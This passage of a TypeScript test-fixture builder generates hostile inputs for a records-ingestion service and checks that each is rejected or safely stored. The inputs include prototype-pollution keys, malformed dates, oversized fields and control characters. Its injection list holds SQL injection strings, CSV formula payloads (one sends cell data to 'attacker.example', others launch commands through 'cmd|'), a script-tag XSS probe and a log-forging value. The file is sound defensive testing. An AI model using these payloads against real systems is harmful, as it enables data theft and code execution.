  c.reject('prototype-key', 'event-nav', 'in-sedHendelse', withRawMembers(ev, ['sedHendelse'], '"__proto__":{"rinaDokumentId":"x"}'), 'JSON_FORBIDDEN_KEY');
  c.reject('prototype-key', 'event-nav', 'in-double-encoded-sed', JSON.stringify({ sedHendelse: ev['sedHendelse'], sed: JSON.stringify(ev['sed']).replace('{', '{"__proto__":{"x":1},') }), 'JSON_FORBIDDEN_KEY');
  c.reject('prototype-key', 'declaration', 'in-array-element', withRawMembers(parse(c.base('declaration')), ['workers', 0], '"constructor":{}'), 'JSON_FORBIDDEN_KEY');
}

function dates(c: Builder): void {
  const bad = ['2024-02-30', '2023-02-29', '1900-02-29', '2024-13-01', '2024-00-10', '2024-04-31', '1985-1-5', '05.02.1985', '19850205', 'yesterday'];
  for (const id of PERSON_BASES) {
    const b = c.base(id);
    const places = PLACES[id];
    const doc = parse(b);
    for (const d of bad) {
      c.reject('date', id, `birth-${d}`, JSON.stringify(edit(doc, (o) => { at(o, places.person)[places.birthDateKey] = d; })), 'DATE_INVALID');
    }
    const [objPath, key] = places.otherDate;
    c.reject('date', id, 'other-date-2024-02-30', JSON.stringify(edit(doc, (o) => { at(o, objPath)[key] = '2024-02-30'; })), 'DATE_INVALID');
    // Leap days that exist are fine.
    c.store('date', id, 'birth-2000-02-29', (bb, uid) => JSON.stringify(edit(ownIdentity(bb, parse(bb), uid), (o) => { at(o, places.person)[places.birthDateKey] = '2000-02-29'; })));
  }
  for (const id of XML_BASES) {
    const b = c.base(id);
    for (const d of ['2024-02-30', '2023-02-29', '2024-13-01', '31/12/1980']) c.reject('date', id, `birth-${d}`, xmlText(b.text, 'dateBirth', d), 'DATE_INVALID');
  }
  const decl = parse(c.base('declaration'));
  c.reject('date', 'declaration', 'declaredAt-25h', JSON.stringify({ ...decl, declaredAt: '2024-03-28T25:00:00Z' }), 'DATE_INVALID');
  c.reject('date', 'declaration', 'declaredAt-feb-30', JSON.stringify({ ...decl, declaredAt: '2024-02-30T10:00:00Z' }), 'DATE_INVALID');
  c.reject('date', 'declaration', 'ends-before-start', JSON.stringify({ ...decl, startDate: '2024-06-01', endDate: '2024-05-31' }), 'DATE_INVALID');
  c.reject('date', 'declaration', 'year-10000', JSON.stringify({ ...decl, endDate: '10000-01-01' }), 'DATE_INVALID');
}

function oversized(c: Builder): void {
  for (const id of ['declaration', 'certificate'] as const) {
    const b = c.base(id);
    const [objPath, key] = PLACES[id].limited;
    const doc = parse(b);
    c.reject('oversized', id, 'field-501', JSON.stringify(edit(doc, (o) => { at(o, objPath)[key] = 'N'.repeat(501); })), 'FIELD_TOO_LONG');
    c.reject('oversized', id, 'field-200k', JSON.stringify(edit(doc, (o) => { at(o, objPath)[key] = 'N'.repeat(200_000); })), 'FIELD_TOO_LONG');
    c.store('oversized', id, 'field-500', (bb, uid) => JSON.stringify(edit(ownIdentity(bb, parse(bb), uid), (o) => { at(o, objPath)[key] = 'N'.repeat(500); })));
  }
  for (const id of ['rina', 'nav'] as const) {
    const b = c.base(id);
    const places = PLACES[id];
    const doc = parse(b);
    c.reject('oversized', id, 'family-name-200k', JSON.stringify(edit(doc, (o) => { at(o, places.person)[places.familyNameKey] = 'N'.repeat(200_000); })), 'FIELD_TOO_LONG');
  }
  for (const id of XML_BASES) {
    c.reject('oversized', id, 'family-name-200k', xmlText(c.base(id).text, 'familyName', 'N'.repeat(200_000)), 'FIELD_TOO_LONG');
  }
  for (const id of ['xml', 'rina', 'nav', 'declaration', 'certificate'] as const) {
    const b = c.base(id);
    const pad = b.format === 'xml' ? xmlInsideRoot(b.text, `<!-- ${'p'.repeat(HOSTILE_LIMITS.maxBytes)} -->`) : withRawMembers(parse(b), [], `"pad":"${'p'.repeat(HOSTILE_LIMITS.maxBytes)}"`);
    c.reject('oversized', id, 'document-over-limit', pad, 'TOO_LARGE');
  }
  // Many entries, each small, the document within the limit: stored in bounded time.
  c.store('oversized', 'declaration', '2000-workers', (bb, uid) =>
    JSON.stringify(edit(ownIdentity(bb, parse(bb), uid), (o) => {
      const w = (o['workers'] as Json[])[0] ?? {};
      o['workers'] = Array.from({ length: 2_000 }, (_, i) => ({ ...w, familyName: `Worker${i}`, pins: [] }));
    })),
  );
  c.store('oversized', 'nav', '3000-unknown-keys', (bb, uid) => withRawMembers(ownIdentity(bb, parse(bb), uid), ['nav'], Array.from({ length: 3_000 }, (_, i) => `"x${i}":"${i}"`).join(',')));
}

/** Names that attack whatever a value flows into next: SQL, spreadsheets, HTML, logs. Stored verbatim. */
export const INJECTION_NAMES: ReadonlyArray<[string, string]> = [
  ['sql-drop', "Robert'); DROP TABLE seds;--"],
  ['sql-or', "' OR '1'='1"],
  ['sql-union', "x' UNION SELECT pin FROM person_pins--"],
  ['sql-comment', 'Nordmann/**/--'],
  ['csv-equals', '=HYPERLINK("http://attacker.example/?"&A1,"Click")'],
  ['csv-plus', '+1+cmd|\' /C calc\'!A0'],
  ['csv-minus', '-2+3+cmd|\' /C calc\'!A0'],
  ['csv-at', '@SUM(1+9)*cmd|\' /C calc\'!A0'],
  ['csv-tab', '\t=1+2'],
  ['html-script', '<script>alert(1)</script>'],
  ['log-forging', 'Nordmann\nlevel=error msg="forged"'],
  ['unicode-bidi', 'Nord\u202emann'],
];

function injections(c: Builder): void {
  for (const id of PERSON_BASES) {
    const places = PLACES[id];
    for (const [variant, name] of INJECTION_NAMES) {
      // Readers trim text (`\t=1+2` is stored as `=1+2`, still a formula for the CSV export to neutralise).
      c.store('injection', id, variant, (b, uid) => JSON.stringify(edit(ownIdentity(b, parse(b), uid), (o) => { at(o, places.person)[places.familyNameKey] = name; })), name.trim());
    }
  }
  for (const [variant, name] of INJECTION_NAMES.slice(0, 6)) {
    c.store('injection', 'xml', variant, (b) => xmlText(b.text, 'familyName', escapeXml(name)), name.trim());
  }
}

function controlChars(c: Builder): void {
  // Text PostgreSQL cannot hold (U+0000, unpaired surrogates) must be refused by the reader, not by the database.
  for (const id of PERSON_BASES) {
    const places = PLACES[id];
    const doc = parse(c.base(id));
    c.reject('control-chars', id, 'escaped-nul', withRawMembers(edit(doc, (o) => { delete at(o, places.person)[places.familyNameKey]; }), places.person, `"${places.familyNameKey}":"Nord\\u0000mann"`), 'CHARACTER_INVALID');
    c.reject('control-chars', id, 'lone-surrogate', withRawMembers(edit(doc, (o) => { delete at(o, places.person)[places.familyNameKey]; }), places.person, `"${places.familyNameKey}":"Nord\\ud800mann"`), 'CHARACTER_INVALID');
    // Other control characters are legal text: stored as written.
    c.store('control-chars', id, 'bell-and-escape', (b, uid) => JSON.stringify(edit(ownIdentity(b, parse(b), uid), (o) => { at(o, places.person)[places.familyNameKey] = 'Nord\u0007\u001bmann'; })), 'Nord\u0007\u001bmann');
  }
  for (const id of XML_BASES) {
    const b = c.base(id);
    c.reject('control-chars', id, 'raw-nul-byte', xmlText(b.text, 'familyName', 'Nord\u0000mann'), 'CHARACTER_INVALID');
    c.reject('control-chars', id, 'raw-escape-char', xmlText(b.text, 'familyName', 'Nord\u001bmann'), 'XML_MALFORMED');
  }
  // Raw control characters are never valid JSON.
  c.reject('control-chars', 'nav', 'raw-nul-byte', c.base('nav').text.replace('"nav"', '"nav"\u0000'), 'JSON_MALFORMED');
  c.reject('control-chars', 'declaration', 'raw-nul-in-string', c.base('declaration').text.replace('"declarationId":"', '"declarationId":"\u0000'), 'JSON_MALFORMED');
  // Keys end up in rejection messages (dead_letters.error_message): a NUL there must not reach the database either.
  c.reject('control-chars', 'nav', 'escaped-nul-key', '{"\\u0000":1}', 'CHARACTER_INVALID');
  c.reject('control-chars', 'declaration', 'escaped-nul-duplicate-key', withRawMembers(parse(c.base('declaration')), [], '"\\u0000":1,"\\u0000":2'), 'CHARACTER_INVALID');
  const ev = parse(c.base('event-xml'));
  ev['sed'] = xmlText(String(ev['sed']), 'familyName', 'Nord\u0000mann');
  c.reject('control-chars', 'event-xml', 'nul-in-inner-xml', JSON.stringify(ev), 'CHARACTER_INVALID');
}

let cached: HostileCase[] | null = null;

/** The whole corpus (built once per process). */
export function hostileCorpus(): HostileCase[] {
  cached ??= buildHostileCorpus();
  return cached;
}

/** Build the corpus afresh: deterministic, the same bytes every time. */
export function buildHostileCorpus(): HostileCase[] {
  const c = new Builder(loadBases());
  truncated(c);
  encodings(c);
  boms(c);
  deepNesting(c);
  hugeAttributes(c);
  dtds(c);
  externalEntities(c);
  entityExpansion(c);
  namespaces(c);
  mixedShapes(c);
  duplicateKeys(c);
  prototypeKeys(c);
  dates(c);
  oversized(c);
  injections(c);
  controlChars(c);
  return c.cases;
}

// ---------------------------------------------------------------------------------------------
// Valid documents for the fuzzers (test/hostile/fuzz.test.ts) to mutate.

export type FuzzKind = 'nav' | 'rina' | 'xml' | 'declaration' | 'certificate' | 'event';

export interface ValidDocument {
  kind: FuzzKind;
  headers: Record<string, string>;
  text: string;
}

/** A few valid documents of each kind (every SED type the generator writes, events, the real samples). */
export function validDocuments(perKind = 6): ValidDocument[] {
  const out: ValidDocument[] = [];
  const count = new Map<string, number>();
  const take = (kind: FuzzKind, key: string, headers: Record<string, string>, text: string): void => {
    const n = count.get(key) ?? 0;
    if (n >= perKind) return;
    count.set(key, n + 1);
    out.push({ kind, headers, text: text.trim() });
  };
  for (const m of generateCorpus({ seed: 13, seds: 300, declarations: 20, certificates: 20, eventRate: 0.2, duplicateRate: 0, newVersionRate: 0.2, badRate: 0 })) {
    if (m.expect.kind === 'bad') continue;
    if (m.topic === 'declaration') take('declaration', 'declaration', m.headers, m.value);
    else if (m.topic === 'certificate') take('certificate', 'certificate', m.headers, m.value);
    else if (m.wrapped) take('event', 'event', m.headers, m.value);
    else if (m.shape !== undefined) {
      const kind: FuzzKind = m.shape === 'xml' ? 'xml' : m.shape === 'rina' ? 'rina' : 'nav';
      take(kind, `${kind}/${m.source?.sedType ?? ''}`, m.headers, m.value);
    }
  }
  for (const file of ['A001-cdm4.4-nav-sedA001.xml', 'A009-cdm4.4-nav-sedA009.xml']) {
    out.push({ kind: 'xml', headers: {}, text: fs.readFileSync(path.join(FIXTURES, file), 'utf8').trim() });
  }
  return out;
}
